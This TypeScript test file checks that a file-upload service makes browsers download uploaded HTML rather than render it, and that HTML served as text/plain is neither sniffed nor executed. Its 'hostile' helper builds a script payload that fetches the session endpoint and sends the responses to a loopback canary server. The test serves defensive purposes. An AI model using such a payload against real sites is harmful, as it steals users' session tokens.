// An uploaded HTML page, opened in headless Chromium from its signed download URL on the playground's origin,
// must run no script: it is downloaded, not rendered. Its script would tell a canary server on loopback,
// and would try to take a token from the sign-in endpoint.
import assert from "node:assert/strict";
import { once } from "node:events";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { after, before, describe, test } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import { startTestServer, type TestServer } from "@replicant/testing";
import type { Page } from "playwright-core";
import { type Browser, ensureWebBuild, openBrowser, skipBrowser } from "./browser.js";

describe("uploaded files in Chromium", { skip: skipBrowser, timeout: 120_000 }, () => {
  let server: TestServer;
  let browser: Browser;
  let page: Page;
  let canary: Server;
  let canaryUrl = "";
  const hits: string[] = [];
  const hitsOf = (tag: string) => hits.filter((hit) => hit.startsWith(`/${tag}/`));

  before(async () => {
    ensureWebBuild();
    canary = createServer((request, response) => {
      hits.push(request.url ?? "");
      response.writeHead(204, { "access-control-allow-origin": "*" }).end();
    });
    canary.listen(0, "127.0.0.1");
    await once(canary, "listening");
    canaryUrl = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
    server = await startTestServer();
    browser = await openBrowser();
    page = await browser.newPage();
    page.setDefaultTimeout(30_000);
  });
  after(async () => {
    await browser?.close();
    await server?.close();
    canary?.close();
  });

  /** A page whose every way to run or load something reports to the canary. */
  function hostile(tag: string): string {
    return `<!doctype html><html><head><title>upload</title>
<script>
  document.title = "pwned";
  fetch(${JSON.stringify(`${canaryUrl}/${tag}/fetch`)}, { mode: "no-cors" });
  const report = (what) => (t) =>
    fetch(${JSON.stringify(`${canaryUrl}/${tag}/`)} + what + "?" + encodeURIComponent(t), { mode: "no-cors" });
  fetch("/replicant/session").then((r) => r.text()).then(report("get-session"));
  fetch("/replicant/session", { method: "POST", headers: { "content-type": "application/json" }, body: "{}" })
    .then((r) => r.text())
    .then(report("post-session"));
</script></head>
<body><img src=${JSON.stringify(`${canaryUrl}/${tag}/img`)}></body></html>`;
  }

  async function uploadUrl(body: string, type: string): Promise<string> {
    const form = new FormData();
    form.append("content", new Blob([body]), "page.html");
    form.append("type", type);
    const response = await fetch(`${server.apiUrl}/files`, {
      method: "POST",
      headers: { authorization: `Bearer ${server.token}` },
      body: form,
    });
    assert.equal(response.status, 201);
    return ((await response.json()) as { urls: { download: string } }).urls.download;
  }

  test("an uploaded HTML page is downloaded, not rendered: no script runs on the server's origin", async () => {
    const url = await uploadUrl(hostile("html"), "text/html");
    const downloaded = page.waitForEvent("download", { timeout: 10_000 }).catch(() => undefined);
    // A navigation that turns into a download is aborted; a rendered page would load and run instead.
    const loaded = await page.goto(url).then(
      () => true,
      () => false,
    );
    const download = await downloaded;
    await sleep(1000); // time for a script that did run to reach the canary
    assert.deepEqual(hitsOf("html"), [], "the page's script and image reached the canary");
    assert.equal(loaded, false, "the navigation did not render the page");
    assert.ok(download, "Chromium saved it as a download");
    assert.equal(download.suggestedFilename(), "page.html");
    assert.notEqual(await page.title(), "pwned");
  });

  test("HTML uploaded as text/plain shows as text: not sniffed, and sandboxed", async () => {
    const url = await uploadUrl(hostile("text"), "text/plain");
    await page.goto(url);
    await sleep(1000);
    assert.deepEqual(hitsOf("text"), [], "nothing ran or loaded");
    assert.notEqual(await page.title(), "pwned");
    assert.match((await page.locator("body").textContent()) ?? "", /document\.title = "pwned"/);
  });
});
